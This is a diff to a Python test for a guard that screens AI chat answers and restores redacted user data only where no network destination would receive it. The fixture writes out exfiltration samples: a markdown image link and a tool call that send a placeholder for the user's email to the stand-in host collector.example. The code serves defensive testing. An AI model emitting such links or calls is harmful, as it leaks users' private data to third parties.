@@ -267,10 +267,17 @@ async def test_screen_answer_keeps_urls_restores_the_rest(guard: Guard, rules: s
     msg = want["choices"][0]["message"]
     msg["content"] = f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {MAIL}."
     # scopes16: a tool call naming a network destination keeps every placeholder (its `to` too: the app's `fetch`
-    # sends its arguments to collector.example); a tool call naming none gets the client's values back.
+    # sends its arguments to collector.example); a tool call naming none gets the client's values back (in an
+    # answer of its own: the second choice, which nothing of sends).
     msg["tool_calls"][0]["function"]["arguments"] = json.dumps({"url": f"https://collector.example/?u={E}",
                                                                   "to": E})
-    msg["tool_calls"][1]["function"]["arguments"] = json.dumps({"to": MAIL, "subject": "Your account"})
+    # answer20: one answer's tool calls and code are one scope
+    msg["tool_calls"][1]["function"]["arguments"] = json.dumps({"to": E, "subject": "Your account"})
+    # the same send_mail call alone in another choice (n=2): restored there, as is that choice's prose
+    own = {"index": 1, "finish_reason": "stop", "message": {
+        "role": "assistant", "content": f"Mailing {E}.", "tool_calls": [copy.deepcopy(body["choices"][0]["message"][
+            "tool_calls"][1])]}}
+    body["choices"].append(own)
     await screen_answer(guard, p, OPENAI.response_texts(CHAT, body), verdict)
     got = body["choices"][0]["message"]
     assert got["content"] == msg["content"]
@@ -278,6 +285,9 @@ async def test_screen_answer_keeps_urls_restores_the_rest(guard: Guard, rules: s
     for k in (0, 1):
         assert json.loads(got["tool_calls"][k]["function"]["arguments"]) == json.loads(
             msg["tool_calls"][k]["function"]["arguments"])
+    alone = body["choices"][1]["message"]
+    assert alone["content"] == f"Mailing {MAIL}."
+    assert json.loads(alone["tool_calls"][0]["function"]["arguments"]) == {"to": MAIL, "subject": "Your account"}
 
 
 async def test_screen_answer_responses_url_citation(guard: Guard) -> None:
